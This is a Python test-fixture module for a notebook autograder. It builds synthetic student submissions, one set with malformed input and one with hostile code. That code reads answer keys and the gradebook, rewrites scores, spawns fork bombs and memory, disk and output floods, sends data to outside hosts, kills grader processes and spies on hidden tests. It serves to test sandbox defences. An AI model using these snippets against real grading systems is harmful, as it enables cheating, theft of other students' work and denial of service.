"""The submissions the grader tests grade: a class with every kind of answer and of bad input,
and a class of hostile students (each attack in its own submission)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from grader.synthetic import SyntheticPlan, write_submissions

ASSIGNMENT = "ps1"
CORRECT = {"squares": "correct", "mean_and_std": "correct", "normalise": "correct"}
# Full marks of the autograded cells for an all-correct submission.
FULL_MARKS = {
    ("squares", "correct_squares"): 2.0,
    ("squares", "squares_invalid_input"): 1.0,
    ("squares", "squares_sums"): 2.0,
    ("stats", "mean_and_std_tests"): 3.0,
    ("stats", "normalise_tests"): 2.0,
}


def class_corpus(course: Path) -> dict[str, str]:
    """Write the equivalence class; returns {student: what the submission is}."""
    plans = [
        SyntheticPlan("anna", dict(CORRECT)),
        SyntheticPlan("artem", {**CORRECT, "squares": "wrong"}),
        SyntheticPlan("boris", {**CORRECT, "mean_and_std": "error", "normalise": "error"}),
        SyntheticPlan("bella", {**CORRECT, "squares": "loop"}),
        SyntheticPlan("pavel", {**CORRECT, "normalise": "slow"}, extra_cells=True),
        SyntheticPlan("blank", {k: "blank" for k in CORRECT}),
        SyntheticPlan("partial", {**CORRECT, "squares": "blank"}, extra_cells=True),
        SyntheticPlan("missing", dict(CORRECT), missing=("stats.ipynb",)),
        SyntheticPlan("renamed", dict(CORRECT)),
        SyntheticPlan("extras", dict(CORRECT)),
        SyntheticPlan("corrupt", dict(CORRECT)),
        SyntheticPlan("foreign", dict(CORRECT)),
    ]
    write_submissions(course, ASSIGNMENT, plans)
    submitted = course / "submitted"
    folder = submitted / "renamed" / ASSIGNMENT
    (folder / "squares.ipynb").rename(folder / "squares (1).ipynb")
    folder = submitted / "extras" / ASSIGNMENT
    (folder / "helper.py").write_text("ANSWER = 42\n")
    (folder / "notes").mkdir()
    (folder / "notes" / "todo.txt").write_text("remember the units\n")
    (folder / "numbers.csv").write_text("1\n2\n3\n")  # overwritten by the source's copy
    (submitted / "corrupt" / ASSIGNMENT / "squares.ipynb").write_text('{"cells": [')
    foreign = submitted / "foreign" / ASSIGNMENT
    shutil.copy(foreign / "stats.ipynb", foreign / "squares.ipynb")  # another notebook's cells
    empty = submitted / "empty" / ASSIGNMENT
    empty.mkdir(parents=True)
    (empty / "timestamp.txt").write_text("2026-01-15 10:00:00.000000 UTC")
    return {p.student: "" for p in plans} | {"empty": ""}


def hostile_code(course: Path, port: int) -> dict[str, str]:
    """Attack code for each hostile student (appended to their first answer)."""
    root = str(course)
    return {
        "reader": (
            "import glob, os\n"
            f"for pattern in ({root + '/source/ps1/*.ipynb'!r}, {root + '/release/ps1/*'!r},\n"
            f"                {root + '/gradebook.db'!r}, {root + '/nbgrader_config.py'!r},\n"
            f"                {root + '/submitted/honest1/ps1/*.ipynb'!r},\n"
            f"                {root + '/autograded/*/ps1/*.ipynb'!r}, '/etc/jupyter/*',\n"
            f"                '/run/smartlab-grade/jobs/*/sock/*'):\n"
            "    try:\n"
            "        found = glob.glob(pattern)\n"
            "        data = open(found[0], 'rb').read() if found else b''\n"
            "        print('READ' if data else 'nothing', pattern)\n"
            "    except OSError as err:\n"
            "        print('blocked', pattern, type(err).__name__)\n"
            "_ = [print('listed', p) for p in os.listdir('.') if p.endswith('.ipynb')]"
        ),
        "writer": (
            "import sqlite3\n"
            "for path in (" + repr(root + "/gradebook.db") + ", 'gradebook.db'):\n"
            "    try:\n"
            "        db = sqlite3.connect(path)\n"
            "        db.execute('update grade set auto_score = 1000')\n"
            "        db.commit()\n"
            "        print('WROTE', path, db.total_changes)\n"
            "    except sqlite3.Error as err:\n"
            "        print('blocked', path, type(err).__name__)\n"
            "import os\n"
            "for path in (" + repr(root + "/autograded/honest1/ps1/squares.ipynb") + ",\n"
            "             " + repr(root + "/source/ps1/squares.ipynb") + "):\n"
            "    try:\n"
            "        open(path, 'w').write('{}')\n"
            "        print('WROTE', path)\n"
            "    except OSError as err:\n"
            "        print('blocked', path, type(err).__name__)"
        ),
        "looper": (
            "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n    pass"
        ),
        "forker": (
            "import os, time\ntry:\n    while True:\n        if os.fork() == 0:\n"
            "            while True:\n                time.sleep(1)\n"
            "except OSError as err:\n    print('fork refused', type(err).__name__)"
        ),
        "hog": (
            "blocks = []\ntry:\n    while True:\n        blocks.append(bytearray(100 << 20))\n"
            "except MemoryError:\n    print('memory refused at', len(blocks) * 100, 'MiB')\n"
            "del blocks"
        ),
        "net": (
            "import socket\n"
            f"for host, port in (('127.0.0.1', {port}), ('10.0.0.1', 80), ('1.1.1.1', 443)):\n"
            "    try:\n"
            "        socket.create_connection((host, port), timeout=3).sendall(b'LEAK')\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as err:\n"
            "        print('blocked', host, type(err).__name__)"
        ),
        "filler": (
            "_chunk = b'0' * 65536\nwith open('big.bin', 'wb') as f:\n"
            "    try:\n        while True:\n            f.write(_chunk)\n"
            "    except OSError as err:\n        print('disk refused', err.errno)"
        ),
        "shouter": "_chunk = 'x' * 65536\nwhile True:\n    print(_chunk)",
        "killer": (
            "import os, signal\n"
            "victims = [os.getppid()]\n"
            "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
            "    try:\n"
            "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
            "    except OSError:\n"
            "        continue\n"
            "    if b'smartlab' in cmd or b'grader' in cmd or b'nbgrader' in cmd:\n"
            "        victims.append(int(pid))\n"
            "hits = 0\n"
            "for pid in set(victims) - {os.getpid()}:\n"
            "    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n"
            "        hits += 1\n"
            "    except OSError:\n"
            "        pass\n"
            "print('killed', hits, 'of', len(set(victims) - {os.getpid()}))"
        ),
        # Passes the visible tests only: its hidden tests fail, with their code in the traceback.
        "cheater": "def squares(n):\n    return [1, 4][:n]",
        "spy": (
            "import builtins\n"
            "builtins._seen = []\n"
            "def _keep(lines):\n"
            "    builtins._seen.extend(lines)\n"
            "    return lines\n"
            "get_ipython().input_transformers_post.append(_keep)"
        ),
    }


def hostile_corpus(course: Path, port: int) -> list[str]:
    attacks = hostile_code(course, port)
    plans = [
        SyntheticPlan("honest1", dict(CORRECT)),
        SyntheticPlan("honest2", dict(CORRECT), extra_cells=True),
    ]
    for student, code in attacks.items():
        # The spy prints, in a cell of its own after the tests, all the code it saw.
        final = {"squares.ipynb": "print(''.join(builtins._seen))"} if student == "spy" else {}
        plans.append(
            SyntheticPlan(student, dict(CORRECT), append={"squares": code}, final_cells=final)
        )
    write_submissions(course, ASSIGNMENT, plans)
    return [p.student for p in plans]


def autograded_cells(course: Path, student: str, notebook: str) -> list[dict]:
    path = course / "autograded" / student / ASSIGNMENT / f"{notebook}.ipynb"
    return json.loads(path.read_text())["cells"]
